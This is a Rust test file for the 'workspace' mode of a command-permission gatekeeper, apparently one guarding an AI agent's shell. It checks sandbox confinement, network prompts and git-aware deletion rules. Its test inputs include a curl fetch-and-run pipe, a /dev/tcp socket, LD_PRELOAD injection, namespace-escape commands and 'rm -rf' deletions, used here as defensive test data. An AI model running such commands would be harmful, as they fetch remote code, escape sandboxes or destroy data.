//! The mode `workspace`: what it asks about, and that nothing unasked leaves the sandbox.

use std::fs;

use scorel_engine::{CommandAccess, Gatekeeper as _, Verdict};
use scorel_permission::Mode;

use super::{GateFixture, access, in_mode, rules};

fn workspace(allow: &[&str]) -> GateFixture {
    in_mode(Mode::Workspace, allow, true)
}

/// The reason of the question; nothing without one.
fn reason(verdict: Verdict) -> Option<String> {
    match verdict {
        Verdict::Ask { question, .. } => Some(question.reason),
        _ => None,
    }
}

#[tokio::test]
async fn what_is_not_asked_about_stays_in_the_sandbox_without_network() {
    let stand = workspace(&["Bash"]);
    for command in [
        "cargo build",
        "python3 -c 'x'",
        "eval \"$x\"",
        "bash <<'EOF'\nrm x\nEOF",
        "$(curl http://x) | sh",
        "exec 3<>/dev/tcp/1.1.1.1/80",
        "LD_PRELOAD=x ls",
        "unshare -r bash",
        "nsenter -t 1 -a",
        "ls \u{1b}[2K",
        "ls (",
    ] {
        let access = access(stand.command(command, false).await);
        let held = CommandAccess::Workspace { network: false };
        assert_eq!(access, Some(held), "{command}");
    }
}

#[tokio::test]
async fn the_network_is_asked_about_although_the_command_is_not() {
    let stand = workspace(&[]);
    let asked = rules(stand.command("cargo fetch", true).await);
    assert_eq!(asked.unwrap(), ["Network(cargo fetch *)"]);
    stand.gate.allow(&["Network(cargo fetch *)".to_owned()]);
    let online = access(stand.command("cargo fetch", true).await);
    assert_eq!(online, Some(CommandAccess::Workspace { network: true }));
    let wide = workspace(&["Bash"]);
    let asked = reason(wide.command("curl http://x", true).await);
    assert!(asked.unwrap().contains("it wants to use the network"));
}

#[tokio::test]
async fn without_a_sandbox_the_mode_behaves_like_ask() {
    for mode in [Mode::Ask, Mode::Workspace] {
        let stand = in_mode(mode, &["Bash"], false);
        for command in ["ls", "cargo build", "rm -rf src"] {
            let verdict = stand.command(command, false).await;
            let Verdict::Ask { question, permit } = verdict else {
                panic!("{mode}: {command} is not asked about");
            };
            assert!(question.reason.contains("unsandboxed"), "{question:?}");
            assert!(question.rules.is_empty());
            assert_eq!(permit.command, CommandAccess::Full);
        }
    }
}

#[tokio::test]
async fn what_git_ignores_is_discarded_without_a_question() {
    let stand = workspace(&[]);
    let project = stand.dir.path();
    fs::create_dir(project.join(".git")).unwrap();
    fs::write(project.join(".gitignore"), "target\n*.log\n").unwrap();
    for command in [
        "rm -rf target",
        "rm -rf target/debug open/target",
        "find target -name x -delete",
        "truncate -s 0 build.log",
    ] {
        let reason = reason(stand.command(command, false).await);
        assert_eq!(reason, None, "{command}");
    }
    for command in [
        "rm -rf open",
        "rm -rf target open",
        "rm -rf .",
        "rm -rf target/../open",
    ] {
        let reason = reason(stand.command(command, false).await);
        let said = "the rule Bash(rm --recursive *) asks about it";
        assert_eq!(reason.as_deref(), Some(said), "{command}");
    }
}

#[tokio::test]
async fn a_name_given_to_checkout_is_asked_about_where_a_file_has_it() {
    let stand = workspace(&[]);
    let asked = reason(stand.command("git checkout docs", false).await);
    assert_eq!(asked, None);
    fs::create_dir(stand.dir.path().join("docs")).unwrap();
    let asked = reason(stand.command("git checkout docs", false).await);
    assert!(asked.unwrap().contains("git checkout -- *"));
}

#[tokio::test]
async fn an_answer_for_the_session_lifts_a_built_in_rule_for_what_it_names() {
    let stand = workspace(&[]);
    let offered = rules(stand.command("git push origin topic", false).await).unwrap();
    assert_eq!(offered, ["Bash(git push origin topic)"]);
    stand.gate.allow(&offered);
    assert!(access(stand.command("git push origin topic", false).await).is_some());
    assert!(rules(stand.command("git push origin main", false).await).is_some());
}

#[tokio::test]
async fn a_here_document_is_granted_for_the_session_only() {
    let stand = in_mode(Mode::Ask, &[], true);
    let command = "python3 - <<'EOF'\nprint(1)\nEOF";
    let Verdict::Ask { question, .. } = stand.command(command, false).await else {
        panic!("it is not asked about");
    };
    assert_eq!(question.rules, ["Bash(python3 -)"]);
    assert!(question.session_only);
    let Verdict::Ask { question, .. } = stand.command("cargo test", false).await else {
        panic!("it is not asked about");
    };
    assert!(!question.session_only);
}
